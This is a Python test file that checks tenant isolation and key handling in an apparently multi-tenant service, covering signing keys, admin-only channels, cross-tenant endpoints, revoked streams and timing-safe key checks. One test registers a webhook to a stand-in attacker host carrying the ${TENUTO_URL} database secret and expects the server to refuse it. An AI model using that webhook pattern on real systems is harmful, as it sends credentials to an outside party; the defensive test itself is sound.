"""What the storage verbs would give away of a tenant, and do not: signing keys, channels, other tenants, revoked streams."""

import hmac
import json
import threading
import urllib.request
from typing import Any

import pytest

from tenuto import AccessDenied, InvalidInput, Tenuto, Waiting
from tenuto.backends import connect
from tenuto.backends.remote import wire
from tenuto.kernel import codec, keys
from tenuto.kernel.contract import Delete, Put
from tenuto.kernel.transact import new_request
from tenuto.servers.auth import Keys
from tenuto.servers.http.problems import status_of
from tenuto.wrappers.encrypt import new_key
from tenuto.wrappers.observe import Observe

SIGNING = keys.pack("inbox", "key")
CHANNELS = keys.pack("notify", "channel")


def everything(agent: Tenuto) -> list[Any]:
    found: list[Any] = []
    while page := agent.kernel.scan(b"", after=found[-1].key if found else None, limit=2):
        found += page
    return found


@pytest.mark.scorecard(19)
def test_a_key_that_reads_cannot_sign_an_answer_of_somebody_else(served: Any) -> None:
    """Found by review: the key that signs answer links was a record like any other."""
    own = served.agent()
    question = own.ask("Pay?", choices=["yes", "no"])
    page = served.link(question.id, by="cfo")
    secret = codec.decode(own.kernel.read([SIGNING])[0].value)
    with Tenuto("reader", served.address, api_key=served.key("read")) as reader:
        assert codec.decode(reader.kernel.read([SIGNING])[0].value) == b""
        rows = everything(reader)
        assert [(one.key, one.version) for one in rows] == [(one.key, one.version) for one in everything(own)]
        assert not [one for one in rows if secret in one.value]
        forged = reader.inbox.token(question.id, by="cfo")
        assert served.ask("POST", f"/answer/{forged}", b"choice=0", key=None).status == 400
    with Tenuto("writer", served.address, api_key=served.key("write")) as writer:
        assert writer.inbox.token(question.id, by="ann")
    assert own.inbox.get(question.id).status == "pending"
    assert served.ask("POST", page, b"choice=1", key=None).status == 200


@pytest.mark.scorecard(19)
def test_channels_are_written_by_admins_and_not_read_by_readers(served: Any) -> None:
    own = served.agent()
    own.notify.to("ann", "https://example.com/hook-t0ken", secret="env:HOOK")
    record = own.kernel.scan(CHANNELS)[0]
    with Tenuto("reader", served.address, api_key=served.key("read")) as reader:
        assert "t0ken" not in repr(everything(reader)) + repr(reader.notify.channels())
    with Tenuto("writer", served.address, api_key=served.key("write")) as writer:
        for attempt in (
            lambda: writer.notify.to("ann", "https://evil.example/?all=${TENUTO_URL}", secret="env:HOOK"),
            lambda: writer.kernel.commit([], [Put(record.key, record.value)], request=new_request(writer.kernel.now())),
            lambda: writer.kernel.commit([], [Delete(record.key)], request=new_request(writer.kernel.now())),
            lambda: writer.kernel.load([record], {}),
        ):
            with pytest.raises(AccessDenied, match="scope admin"):
                attempt()
        assert writer.ask("Ready?", to="ann").id, "whose channels are read for the outbox"
    assert own.kernel.scan(CHANNELS) == [record]
    with Tenuto("admin", served.address, api_key=served.key("admin")) as admin:
        admin.notify.to("bob", "https://example.com/bob", secret="env:HOOK")
    assert {one.name for one in own.notify.channels()} == {"ann", "bob"}


def test_what_a_client_encrypted_itself_is_refused_with_a_sentence(served: Any) -> None:
    with Tenuto("own key", served.address, api_key=served.token, encryption_key=new_key()) as agent:
        agent.state.set("s", "k", "secret")
        assert agent.state.get("s", "k") == "secret"
    for reply in (
        served.get("/v1/state/get?scope=s&key=k"),
        served.get("/v1/resume"),
        served.post("/v1/state/set", {"scope": "s", "key": "k", "value": 1}),
    ):
        assert (reply.status, reply.json["title"]) == (409, "Encrypted")


def test_an_operation_that_waits_is_a_conflict_and_no_failure(served: Any) -> None:
    assert status_of(Waiting("It waits for a person.")) == 409


def test_the_server_itself_sends_no_request_to_an_address_of_a_client(served: Any) -> None:
    for path in ("/v1/notify/test?name=ann", "/v1/notify/deliver"):
        assert served.get(path).status == 404


@pytest.mark.scorecard(19)
def test_what_covers_all_tenants_is_for_admins_of_the_servers_own(served: Any) -> None:
    served.agent("acme").state.set("s", "k", 1)
    acme, own = served.key("admin", tenant="acme"), served.key("admin")
    assert served.post("/v1/growth", {}, key=acme).status == 403
    for path in ("/v1/check", "/v1/stats", "/v1/alerts/growth", "/v1/alerts/figures"):
        refused = served.get(path, key=acme)
        assert (refused.status, "covers all tenants" in refused.json["detail"]) == (403, True)
        assert served.get(path, key=own).status == 200
    with Tenuto("x", served.address, api_key=acme) as agent:
        assert "store" not in agent.store.stats()
        with pytest.raises(AccessDenied, match="covers all tenants"):
            agent.kernel.check()
    with Tenuto("x", served.address, api_key=own) as agent:
        assert agent.store.stats()["store"]["backend"] == "sqlite"
        assert agent.kernel.check() == []


@pytest.mark.scorecard(19)
def test_a_key_that_answers_asks_nothing(served: Any) -> None:
    question = served.agent().ask("Ship?")
    key = served.key("answer")
    assert served.post("/v1/inbox/ask", {"question": "Why?"}, key=key).status == 403
    answer = {"question": question.id, "answer": "yes", "by": "ann"}
    assert served.post("/v1/inbox/answer", answer, key=key).json["status"] == "answered"


@pytest.mark.scorecard(19)
def test_the_calls_of_other_tenants_are_not_in_the_metrics_of_one(http: Any, served: Any, tmp_path: Any) -> None:
    name, token = http.store(tmp_path / "metered.db", metrics=True)
    served.address, served.token = http.address(name), token
    path = str(tmp_path / "metered.db")
    key = Keys(connect(path)).create("acme", tenant="acme", scopes=["read"]).api_key
    served.post("/v1/state/set", {"scope": "s", "key": "k", "value": 1})
    own, other = served.get("/metrics").body, served.get("/metrics", key=key).body
    assert b"tenuto_runs_running" in own
    assert b"tenuto_calls_total" in own
    assert b"tenuto_runs_running" in other
    assert b"tenuto_calls_total" not in other


@pytest.mark.scorecard(19)
def test_a_stream_that_is_open_ends_when_its_key_is_revoked(served: Any) -> None:
    key = served.key("read", name="watcher")
    request = urllib.request.Request(
        f"{served.address}/v1/state/watch?scope=s&after=0", headers={"Authorization": f"Bearer {key}"}
    )
    own = served.agent()
    own.state.set("s", "k", "before")
    with urllib.request.urlopen(request, timeout=20) as stream:
        lines = [stream.readline() for _ in range(5)]
        assert b"before" in lines[3]
        served.keys.revoke("watcher")
        own.state.set("s", "k", "after the revocation")
        rest = stream.read()
    assert b"after the revocation" not in rest
    assert json.loads(rest.partition(b"data: ")[2])["title"] == "AccessDenied"


def test_a_long_poll_that_waits_ends_when_its_key_is_revoked(served: Any) -> None:
    key = served.key("read", name="poller")
    own = served.agent()
    own.state.set("s", "k", 1)
    stream = own.kernel.streams(b"")[0]
    replies: list[Any] = []
    body = wire.packed([[[stream, own.kernel.entries(stream, limit=1, reverse=True)[0].number]], 10])
    path, patient = wire.path_of("watch"), {"key": key, "Tenuto_Timeout": "60"}
    thread = threading.Thread(target=lambda: replies.append(served.post(path, body, **patient)))
    thread.start()
    served.keys.revoke("poller")
    thread.join(20)
    assert replies[0].status == 401, replies


@pytest.mark.scorecard(19)
def test_revoking_a_name_also_revokes_the_key_that_a_rotation_left_valid(served: Any) -> None:
    old = served.key("write", name="ci")
    new = served.keys.rotate("ci", overlap="24h").api_key
    served.keys.revoke("ci")
    for key in (old, new):
        assert served.get("/v1/state/list?scope=s", key=key).status == 401
    old = served.key("write", name="web")
    new = served.keys.rotate("web", overlap="24h").api_key
    assert served.post("/v1/keys/revoke", {"key": "web"}).status == 200
    for key in (old, new):
        assert served.get("/v1/state/list?scope=s", key=key).status == 401
    ended = served.key("write", name="brief", expires=0)
    assert served.get("/v1/state/list?scope=s", key=ended).status == 401
    assert served.key("write", name="brief"), "the name of a key that has expired is free again"


def test_an_idempotency_key_works_for_a_key_with_a_prefix_and_is_its_own(served: Any) -> None:
    first, second = served.key("write", prefix="case-"), served.key("write", prefix="case-")
    given = {"scope": "case-1", "key": "k", "value": 1}
    for again in (None, "true"):
        reply = served.post("/v1/state/set", given, key=first, Idempotency_Key="once")
        assert (reply.status, reply.json, reply.headers["Idempotency-Replayed"]) == (200, {"version": 1}, again)
    other = served.post("/v1/state/set", given, key=second, Idempotency_Key="once")
    assert (other.json, other.headers["Idempotency-Replayed"]) == ({"version": 2}, None), (
        "another key's is not replayed"
    )
    outside = served.post("/v1/state/set", {**given, "scope": "x"}, key=first, Idempotency_Key="other")
    assert outside.status == 403


def test_a_name_of_a_variable_of_tenuto_is_no_secret_of_a_channel(client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from tenuto.capabilities.people.notify.channels import expanded

    monkeypatch.setenv("TENUTO_URL", "postgresql://u:secret@h/db")
    monkeypatch.setenv("HOOK", "x")
    assert expanded("https://h/${HOOK}") == "https://h/x"
    with pytest.raises(InvalidInput, match="TENUTO_URL"):
        expanded("https://h/?${TENUTO_URL}")
    monkeypatch.setenv("TENUTO_NOTIFY_VARIABLES", "SLACK_*,MAIL_PASSWORD")
    monkeypatch.setenv("SLACK_PATH", "y")
    assert expanded("https://h/${SLACK_PATH}") == "https://h/y"
    with pytest.raises(InvalidInput, match="TENUTO_NOTIFY_VARIABLES"):
        expanded("https://h/${HOOK}")


@pytest.mark.scorecard(19)
def test_a_refusal_takes_the_same_steps_whatever_is_wrong(served: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """So its time tells neither whether a key exists nor how much of it is right."""
    known, revoked = served.key("read", name="known"), served.key("read", name="revoked")
    served.keys.revoke("revoked")
    steps: list[Any] = []
    compare = hmac.compare_digest
    monkeypatch.setattr(hmac, "compare_digest", lambda a, b: steps.append(len(a)) or compare(a, b))
    told = Observe(served.backend, [lambda call: steps.append((call.verb, call.count))])
    keys_ = Keys(told, token="tk_own")
    taken = set()
    for text in (
        known[:-1],
        known + "A",
        known[:-1] + "A",
        revoked,
        f"tk_{'0' * 12}_x",
        "tk_x",
        "",
        "x" * 5_000,
        "\udcff",
    ):
        steps.clear()
        with pytest.raises(AccessDenied) as refused:
            keys_.verify(text)
        taken.add((str(refused.value), *steps))
    assert len(taken) == 1, taken
    assert keys_.verify(known).name == "known"
